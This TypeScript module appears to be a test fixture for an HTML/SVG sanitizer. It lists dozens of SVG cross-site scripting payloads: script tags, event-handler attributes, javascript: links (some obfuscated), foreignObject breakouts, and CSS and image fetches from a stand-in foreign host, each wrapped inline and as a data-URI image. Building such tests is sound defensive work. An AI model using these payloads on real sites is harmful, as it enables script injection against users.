import { FOREIGN, inMarkup, SCRIPT } from './vector.ts';
import type { Attempt } from './vector.ts';

const S = SCRIPT;
const page = `<script>${S}</script>`;

/** What a drawing may hold that runs or fetches when it is shown in a page, or opened by itself. */
const INSIDE: readonly string[] = [
  `<script>${S}</script>`,
  `<script href="data:text/javascript,${S}"/>`,
  `<script xlink:href="${FOREIGN}/d.js"/>`,
  `<![CDATA[</svg>${page}]]>`,
  `<desc>${page}</desc>`,
  `<title><img src=x: onerror=${S}></title>`,
  `<metadata>${page}</metadata>`,
  `<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml" onload="${S}"/></foreignObject>`,
  `<foreignObject><iframe src="javascript:${S}"></iframe></foreignObject>`,
  `<switch><foreignObject>${page}</foreignObject></switch>`,
  `<image href="${FOREIGN}/d.png" onerror="${S}"/>`,
  `<image xlink:href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${S}'/%3E"/>`,
  `<a href="javascript:${S}"><rect width="99" height="99"/></a>`,
  `<a xlink:href="java&#10;script:${S}"><text y="20">word</text></a>`,
  `<a><rect width="9" height="9"/><animate attributeName="href" values="javascript:${S}"/></a>`,
  `<set attributeName="onmouseover" to="${S}" onbegin="${S}"/>`,
  `<animate onbegin="${S}" attributeName="x" dur="1s"/>`,
  `<animateMotion onend="${S}" dur="1ms" path="M0 0"/>`,
  `<use href="${FOREIGN}/d.svg#a"/>`,
  `<use href="data:image/svg+xml;base64,PHN2Zy8+#a"/><script>${S}</script>`,
  `<style>@import "${FOREIGN}/d.css";</style>`,
  `<style>rect{fill:url(${FOREIGN}/d.svg#a)}</style>`,
  `<style>@font-face{font-family:f;src:url(${FOREIGN}/d.woff2)}text{font-family:f}</style><text y="9">word</text>`,
  `<style>rect{background:u\\72l(${FOREIGN}/e.png)}</style>${page}`,
  `<style></style>${page}<style></style>`,
  `<rect style="fill:url(${FOREIGN}/f.svg#a)" width="9" height="9" onclick="${S}"/>`,
  `<rect fill="url(${FOREIGN}/g.svg#a)" filter="url('//foreign.test/h.svg#b')" width="9" height="9"/><script>${S}</script>`,
  `<filter id="f"><feImage href="${FOREIGN}/i.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  `<mask id="m"><image href="${FOREIGN}/j.png"/></mask><rect mask="url(#m)" width="9" height="9"/>`,
  `<handler type="text/javascript" ev:event="load">${S}</handler>${page}`,
  `<text onfocus="${S}" tabindex="1" autofocus="1">word</text>`,
  `<circle r="9" onpointerover="${S}"/>`,
  `<g xml:base="javascript:${S}//"><a href="#x"><rect width="9" height="9"/></a></g>${page}`,
  `<style><![CDATA[</style>${page}]]></style>`,
  `<math><annotation-xml encoding="text/html">${page}</annotation-xml></math>`,
  `</svg>${page}<svg>`,
  `<p>${page}</p>`,
  `<!--><img src=x: onerror=${S}>-->`,
  `<?xml-stylesheet href="${FOREIGN}/k.css"?>${page}`,
  `<svg onload="${S}"><script>${S}</script></svg>`,
  `<video autoplay><source onerror="${S}" src="x:"/></video>`,
  `<audio src="${FOREIGN}/l.mp3" autoplay="1"/>`,
  `<iframe src="javascript:${S}"/>`,
];

/** Drawings: as markup of an article, and whole in an address. */
export function drawings(): readonly Attempt[] {
  return INSIDE.flatMap((inside, index) => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 400 300" onload="${S}"><rect width="40" height="40"/>${inside}</svg>`;
    return [
      inMarkup('drawing', `drawing ${index + 1}`, `<figure>${svg}<figcaption>word</figcaption></figure>`),
      inMarkup(
        'drawing',
        `drawing in an address ${index + 1}`,
        `<figure><img alt="word" src="data:image/svg+xml,${encodeURIComponent(svg).replaceAll('%25N', '%N').replaceAll("'", '%27')}"></figure>${svg}`,
      ),
    ];
  });
}
